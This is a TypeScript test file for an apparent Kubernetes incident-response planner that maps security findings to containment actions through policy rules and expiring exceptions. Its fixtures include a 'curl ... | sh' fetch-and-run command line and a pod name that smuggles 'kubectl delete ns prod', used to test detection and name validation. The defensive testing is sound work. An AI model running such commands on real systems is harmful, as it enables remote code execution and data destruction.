import { describe, expect, it } from '@jest/globals';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { plan, ruleMatches } from '../src/core/plan/plan.ts';
import { MAX_COMMAND_LINE, parsePolicy } from '../src/core/policy/policy.ts';
import { notificationV1 } from './support/fixtures.ts';

const NOW = new Date('2026-11-20T14:05:00Z');
const planFor = (n: unknown, policyYaml: string, options = {}) => plan(decodeInput(n), parsePolicy(policyYaml), NOW, options);

const ENFORCE_ALL = `
dryRun: false
rules:
  - name: all
    actions: [delete-pod, cordon-node, isolate-pod, label-pod]
`;

describe('plan', () => {
  it('orders actions safely whatever the order in the policy', () => {
    const p = planFor(notificationV1(), ENFORCE_ALL);
    expect(p.decision).toBe('respond');
    expect(p.actions.map((a) => a.type)).toEqual(['label-pod', 'isolate-pod', 'cordon-node', 'delete-pod']);
    expect(p.actions[0]).toEqual({ type: 'label-pod', namespace: 'payments', pod: 'checkout-7c9f8d6b5-q2w8x', node: 'gke-shop-prod-1-default-pool-3f2a9c1b-x7kq' });
    expect(p.dryRun).toBe(false);
    expect(p.rule).toBe('all');
  });

  it('puts capture-process-list after isolation and before cordon and removal', () => {
    const p = planFor(notificationV1(), 'rules: [{name: r, actions: [evict-pod, capture-process-list, cordon-node, isolate-pod]}]');
    expect(p.actions.map((a) => a.type)).toEqual(['isolate-pod', 'capture-process-list', 'cordon-node', 'evict-pod']);
  });

  it('ignores out-of-scope findings with a reason and no target', () => {
    const n = structuredClone(notificationV1());
    n.finding.category = 'Added Binary Executed';
    const p = planFor(n, ENFORCE_ALL);
    expect(p).toMatchObject({ decision: 'ignore', actions: [], evidence: [], target: null, rule: null });
    expect(p.reason).toMatch(/category/);
  });

  it('reports but never acts in a protected namespace', () => {
    const n = structuredClone(notificationV1());
    n.finding.kubernetes.pods[0].ns = 'kube-system';
    const p = planFor(n, ENFORCE_ALL);
    expect(p.decision).toBe('respond');
    expect(p.actions).toEqual([]);
    expect(p.reason).toMatch(/namespace kube-system is protected/);
    expect(p.evidence.map((e) => e.kind)).toContain('pod-logs');
  });

  it('no matching rule = report only', () => {
    const p = planFor(notificationV1(), 'rules: [{name: other, match: {clusters: ["dev-*"]}, actions: [delete-pod]}]');
    expect(p).toMatchObject({ decision: 'respond', rule: null, actions: [] });
    expect(p.reason).toMatch(/no policy rule matches/);
  });

  it('first matching rule wins and its dryRun overrides the global one', () => {
    const yaml = `
dryRun: true
rules:
  - {name: payments, match: {namespaces: [payments], severities: [CRITICAL]}, actions: [label-pod], dryRun: false}
  - {name: rest, actions: [delete-pod]}
`;
    const p = planFor(notificationV1(), yaml);
    expect(p.rule).toBe('payments');
    expect(p.dryRun).toBe(false);
    expect(p.actions.map((a) => a.type)).toEqual(['label-pod']);
  });

  const matchCases: Array<[string, string, boolean]> = [
    ['project glob', '{projects: ["example-shop-*"]}', true],
    ['project glob miss', '{projects: ["other-*"]}', false],
    ['location', '{locations: ["us-*"]}', true],
    ['cluster', '{clusters: ["shop-prod-?"]}', true],
    ['namespace miss', '{namespaces: [default]}', false],
    ['pod label', '{podLabels: {app: checkout}}', true],
    ['pod label glob', '{podLabels: {tier: "pay*"}}', true],
    ['pod label missing', '{podLabels: {team: x}}', false],
    ['image with **', '{images: ["us-docker.pkg.dev/example-shop-prod/**"]}', true],
    ['image miss', '{images: ["gcr.io/**"]}', false],
    ['severity miss', '{severities: [LOW]}', false],
    ['everything at once', '{projects: ["*"], clusters: ["shop-*"], namespaces: ["pay*"], severities: [CRITICAL, HIGH]}', true],
  ];
  it.each(matchCases)('rule matching: %s', (_name, match, expected) => {
    const p = planFor(notificationV1(), `rules: [{name: r, match: ${match}, actions: [label-pod]}]`);
    expect(p.rule).toBe(expected ? 'r' : null);
  });

  it('forceDryRun wins over an enforcing rule', () => {
    expect(planFor(notificationV1(), ENFORCE_ALL, { forceDryRun: true }).dryRun).toBe(true);
  });

  it('drops pod actions when the pod name is not a Kubernetes name, and still reports', () => {
    const n = structuredClone(notificationV1());
    n.finding.kubernetes.pods[0].name = 'x"; kubectl delete ns prod';
    const p = planFor(n, ENFORCE_ALL);
    expect(p.decision).toBe('respond');
    expect(p.actions).toEqual([{ type: 'cordon-node', namespace: 'payments', pod: 'x"; kubectl delete ns prod', node: 'gke-shop-prod-1-default-pool-3f2a9c1b-x7kq' }]);
    expect(p.reason).toMatch(/label-pod, isolate-pod, delete-pod dropped: pod .* is not a valid Kubernetes name/);
    expect(p.evidence.map((e) => e.kind)).toEqual(['node-logs']);
  });

  it('drops everything when neither pod nor node can be addressed', () => {
    const n = structuredClone(notificationV1());
    delete n.finding.kubernetes;
    delete n.finding.sourceProperties;
    delete n.finding.containers;
    const p = planFor(n, ENFORCE_ALL);
    expect(p.actions).toEqual([]);
    expect(p.targetProblems).toEqual(['namespace is missing from the finding', 'pod is missing from the finding', 'node is missing from the finding']);
  });

  it('windows the evidence around eventTime, or now when eventTime is missing', () => {
    const p = planFor(notificationV1(), '');
    expect(p.window).toEqual({ start: '2026-11-20T13:33:27.512Z', end: '2026-11-20T14:18:27.512Z' });
    const n = structuredClone(notificationV1());
    delete n.finding.eventTime;
    expect(planFor(n, 'evidence: {windowBeforeMinutes: 10, windowAfterMinutes: 0}').window).toEqual({ start: '2026-11-20T13:55:00.000Z', end: '2026-11-20T14:05:00.000Z' });
  });

  // Label keys that are also Object.prototype's: a lookup on a plain object would find a function.
  it.each(['constructor', 'toString', 'hasOwnProperty'])('a rule on pod label %s matches only a real label', (key) => {
    const rule = `rules: [{name: r, match: {podLabels: {${key}: "*"}}, actions: [label-pod]}]`;
    expect(planFor(notificationV1(), rule).rule).toBeNull();
    const n = structuredClone(notificationV1());
    n.finding.kubernetes.pods[0].labels.push({ name: key, value: 'yes' });
    expect(planFor(n, rule).rule).toBe('r');
  });

  it('ruleMatches reads own label keys only, whatever object holds the labels', () => {
    const p = planFor(notificationV1(), '');
    const rule = parsePolicy('rules: [{name: r, match: {podLabels: {constructor: "*", toString: "*"}}, actions: []}]').rules[0]!;
    expect(ruleMatches(rule, { ...p.target!, podLabels: { app: 'checkout' } }, 'CRITICAL')).toBe(false);
    expect(ruleMatches(rule, { ...p.target!, podLabels: { constructor: 'a', toString: 'b' } }, 'CRITICAL')).toBe(true);
  });

  it('a finding label named __proto__ is ignored, and changes no lookup', () => {
    const n = structuredClone(notificationV1());
    n.finding.kubernetes.pods[0].labels.push({ name: '__proto__', value: 'x' }, { name: 'constructor', value: 'x' });
    const p = planFor(n, 'rules: [{name: r, match: {podLabels: {team: "*"}}, actions: [label-pod]}]');
    expect(p.rule).toBeNull();
    expect(Object.keys(p.target!.podLabels)).toEqual(['app', 'pod-template-hash', 'tier', 'constructor']);
  });

  it('is pure: same inputs, same plan', () => {
    expect(planFor(notificationV1(), ENFORCE_ALL)).toEqual(planFor(notificationV1(), ENFORCE_ALL));
  });
});

// The fixture's child is `/bin/sh -c "curl -s http://203.0.113.7/x.sh | sh"` (sha256 e3b98cb3…), its parent
// `node /app/server.js` (/usr/local/bin/node).
const childOf = (n: Record<string, any>) => n.finding.processes.find((p: any) => p.pid === '48213');
const parentOf = (n: Record<string, any>) => n.finding.processes.find((p: any) => p.pid === '1');
const ruleFor = (match: string) => `rules: [{name: r, match: ${match}, actions: [label-pod]}]`;

describe('process conditions', () => {
  const cases: Array<[string, string, boolean]> = [
    ['child binary path', '{child: {binaryPaths: [/bin/sh]}}', true],
    ['child binary path glob', '{child: {binaryPaths: ["/bin/*"]}}', true],
    ['child binary path miss', '{child: {binaryPaths: [/bin/bash]}}', false],
    ['child binary path: * stays in a segment', '{child: {binaryPaths: ["/*"]}}', false],
    ['parent binary path', '{parent: {binaryPaths: ["/usr/local/bin/node"]}}', true],
    ['parent binary path with **', '{parent: {binaryPaths: ["/usr/**"]}}', true],
    ['parent binary path miss', '{parent: {binaryPaths: ["/usr/bin/java"]}}', false],
    ['child name', '{child: {names: [sh, bash]}}', true],
    ['child name miss', '{child: {names: [bash]}}', false],
    ['parent name', '{parent: {names: ["no?e"]}}', true],
    ['parent name miss', '{parent: {names: [java]}}', false],
    ['child args glob over the joined command line', '{child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}}', true],
    ['child args: * crosses "/" in a command line', '{child: {args: ["/bin/sh -c curl *"]}}', true],
    ['child args: the whole line must match', '{child: {args: ["/bin/sh -c curl"]}}', false],
    ['child args: ? and classes match "/" too', '{child: {args: ["?bin[/]sh -c *"]}}', true],
    ['child argsContain', '{child: {argsContain: ["wget ", "203.0.113.7/x.sh"]}}', true],
    ['child argsContain miss', '{child: {argsContain: ["wget "]}}', false],
    ['child argsContain is case-sensitive', '{child: {argsContain: ["CURL"]}}', false],
    ['parent args', '{parent: {args: ["node /app/server.js"]}}', true],
    ['child sha256', '{child: {sha256: [e3b98cb3ee2d1e4a0bd5b1a8e5d39c0f3a2c7d8e9f00112233445566778899aa]}}', true],
    ['child sha256, upper case in the policy', '{child: {sha256: [E3B98CB3EE2D1E4A0BD5B1A8E5D39C0F3A2C7D8E9F00112233445566778899AA]}}', true],
    ['child sha256 miss', `{child: {sha256: ["${'0'.repeat(64)}"]}}`, false],
    ['parent sha256', '{parent: {sha256: [9c1185a5c5e9fc54612808977ee8f548b2258d31aa3e7f4c6f1e1d8b7b2d4e11]}}', true],
    ['child script path when the finding names none', '{child: {scriptPaths: ["/**"]}}', false],
    ['every process condition at once', '{parent: {names: [node], binaryPaths: ["/usr/local/bin/*"]}, child: {names: [sh], binaryPaths: [/bin/sh], argsContain: [curl]}}', true],
    ['process and place together, the place fails', '{namespaces: [default], child: {names: [sh]}}', false],
  ];
  it.each(cases)('%s', (_name, match, expected) => {
    expect(planFor(notificationV1(), ruleFor(match)).rule).toBe(expected ? 'r' : null);
  });

  it('script paths match the script the process runs', () => {
    const n = structuredClone(notificationV1());
    childOf(n).script = { path: '/opt/jobs/nightly.sh' };
    expect(planFor(n, ruleFor('{child: {scriptPaths: ["/opt/jobs/*.sh"]}}')).rule).toBe('r');
    expect(planFor(n, ruleFor('{child: {scriptPaths: ["/opt/other/*.sh"]}}')).rule).toBeNull();
  });

  it('a parent condition does not hold when the finding names no parent', () => {
    const n = structuredClone(notificationV1());
    n.finding.processes = [childOf(n)];
    delete n.finding.processes[0].parentPid;
    expect(planFor(n, ruleFor('{parent: {names: ["*"]}}')).rule).toBeNull();
    expect(planFor(n, ruleFor('{child: {names: [sh]}}')).rule).toBe('r');
  });

  it('a child with no binary path or sha256 in the finding does not satisfy those conditions', () => {
    const n = structuredClone(notificationV1());
    delete childOf(n).binary;
    expect(planFor(n, ruleFor('{child: {binaryPaths: ["**"]}}')).rule).toBeNull();
    expect(planFor(n, ruleFor(`{child: {sha256: [${'e'.repeat(64)}]}}`)).rule).toBeNull();
  });

  // What SCC cut off could be anything ("…; curl x | sh"): a truncated command line never satisfies an args condition.
  it.each([
    ['args', '{child: {args: ["*"]}}'],
    ['args, exact visible line', '{child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}}'],
    ['argsContain', '{child: {argsContain: [curl]}}'],
  ])('truncated args never satisfy a positive %s condition', (_name, match) => {
    const n = structuredClone(notificationV1());
    expect(planFor(n, ruleFor(match)).rule).toBe('r');
    childOf(n).argumentsTruncated = true;
    expect(planFor(n, ruleFor(match)).rule).toBeNull();
  });

  it('truncated args leave the other process conditions alone', () => {
    const n = structuredClone(notificationV1());
    childOf(n).argumentsTruncated = true;
    expect(planFor(n, ruleFor('{child: {binaryPaths: [/bin/sh]}}')).rule).toBe('r');
  });

  it('a command line longer than the bound is treated as truncated', () => {
    const n = structuredClone(notificationV1());
    childOf(n).args = ['/bin/sh', '-c', `echo ${'a'.repeat(MAX_COMMAND_LINE)}`];
    expect(planFor(n, ruleFor('{child: {args: ["*"]}}')).rule).toBeNull();
    childOf(n).args = ['/bin/sh', '-c', `echo ${'a'.repeat(MAX_COMMAND_LINE - 20)}`];
    expect(planFor(n, ruleFor('{child: {args: ["*"]}}')).rule).toBe('r');
  });

  it('matches raw args, though every printed form is redacted', () => {
    const n = structuredClone(notificationV1());
    childOf(n).args = ['mysql', '-pHunter2Secret', 'shop'];
    expect(planFor(n, ruleFor('{child: {argsContain: ["-pHunter2Secret"]}}')).rule).toBe('r');
  });

  it('parent and child are told apart by pid, not by their order in the finding', () => {
    const n = structuredClone(notificationV1());
    n.finding.processes.reverse();
    expect(planFor(n, ruleFor('{parent: {names: [node]}, child: {names: [sh]}}')).rule).toBe('r');
    expect(parentOf(n).name).toBe('node');
  });
});

const NIGHTLY = `
dryRun: false
exceptions:
  - name: curl-health
    reason: the checkout image's health probe fetches a script (ticket OPS-1)
    expires: 2026-12-01
    owner: payments-team
    match:
      namespaces: [payments]
      child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}
rules:
  - {name: contain, actions: [label-pod, delete-pod]}
`;

describe('exceptions', () => {
  it('an excepted finding is reported with no actions, naming the exception', () => {
    const p = planFor(notificationV1(), NIGHTLY);
    expect(p).toMatchObject({
      decision: 'respond',
      rule: null,
      actions: [],
      exception: { name: 'curl-health', reason: "the checkout image's health probe fetches a script (ticket OPS-1)", expires: '2026-12-01T00:00:00Z', owner: 'payments-team', sinks: ['pubsub', 'slack', 'chat'] },
    });
    expect(p.reason).toBe('exception curl-health matched (expires 2026-12-01T00:00:00Z): expected, report only');
    // Still reported in full: evidence queries and target stay.
    expect(p.evidence.map((e) => e.kind)).toEqual(['pod-logs', 'cluster-audit-logs', 'node-logs']);
    expect(Object.keys(p).slice(0, 6)).toEqual(['version', 'decision', 'reason', 'dryRun', 'rule', 'exception']);
  });

  it('applies until its expiry and not from then on (now injected)', () => {
    const at = (iso: string) => plan(decodeInput(notificationV1()), parsePolicy(NIGHTLY), new Date(iso));
    expect(at('2026-11-30T23:59:59.999Z').exception?.name).toBe('curl-health');
    const expired = at('2026-12-01T00:00:00Z');
    expect(expired).toMatchObject({ exception: null, rule: 'contain' });
    expect(expired.actions.map((a) => a.type)).toEqual(['label-pod', 'delete-pod']);
    // An expiry is never silent.
    expect(expired.reason).toBe('rule contain matched; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
  });

  it('says an expired exception also when no rule matches, or the namespace is protected', () => {
    const later = new Date('2026-12-02T00:00:00Z');
    const noRule = plan(decodeInput(notificationV1()), parsePolicy(NIGHTLY.replace(/rules:[\s\S]*$/, '')), later);
    expect(noRule.reason).toBe('no policy rule matches: report only; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
    const guarded = plan(decodeInput(notificationV1()), parsePolicy(`${NIGHTLY}protectedNamespaces: [payments]\n`), later);
    expect(guarded.reason).toBe('namespace payments is protected: report only; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
  });

  it('an RFC 3339 expiry is honoured to the second, offsets included', () => {
    const yaml = NIGHTLY.replace('expires: 2026-12-01', 'expires: "2026-11-20T15:05:00+01:00"');
    expect(plan(decodeInput(notificationV1()), parsePolicy(yaml), new Date('2026-11-20T14:04:59Z')).exception?.expires).toBe('2026-11-20T14:05:00Z');
    expect(plan(decodeInput(notificationV1()), parsePolicy(yaml), new Date('2026-11-20T14:05:00Z')).exception).toBeNull();
  });

  it('does not apply when one of its conditions fails', () => {
    const n = structuredClone(notificationV1());
    childOf(n).args = ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh; rm -rf /tmp/x'];
    expect(planFor(n, NIGHTLY)).toMatchObject({ exception: null, rule: 'contain', reason: 'rule contain matched' });
  });

  it('does not apply to truncated args', () => {
    const n = structuredClone(notificationV1());
    childOf(n).argumentsTruncated = true;
    expect(planFor(n, NIGHTLY)).toMatchObject({ exception: null, rule: 'contain' });
  });

  it('is evaluated before the rules and before protected namespaces; the first live one wins', () => {
    const yaml = `
protectedNamespaces: [payments]
exceptions:
  - {name: old, reason: gone, expires: 2026-01-01, match: {namespaces: [payments]}}
  - {name: first, reason: a, expires: 2027-01-01, match: {namespaces: [payments]}}
  - {name: second, reason: b, expires: 2027-01-01, match: {namespaces: ["*"]}}
rules: [{name: all, actions: [delete-pod]}]
`;
    const p = planFor(notificationV1(), yaml);
    expect(p.exception?.name).toBe('first');
    expect(p.reason).toMatch(/^exception first matched/);
  });

  it('excepted findings go only to the sinks the policy allows', () => {
    const yaml = NIGHTLY + 'exceptionSettings: {sinks: [pubsub]}\n';
    expect(planFor(notificationV1(), yaml).exception?.sinks).toEqual(['pubsub']);
    const own = yaml.replace('owner: payments-team', 'owner: payments-team\n    sinks: [slack, pubsub]');
    expect(planFor(notificationV1(), own).exception?.sinks).toEqual(['pubsub', 'slack']);
  });

  it('an out-of-scope finding is ignored whatever the exceptions say', () => {
    const n = structuredClone(notificationV1());
    n.finding.state = 'INACTIVE';
    expect(planFor(n, NIGHTLY)).toMatchObject({ decision: 'ignore', exception: null });
  });
});
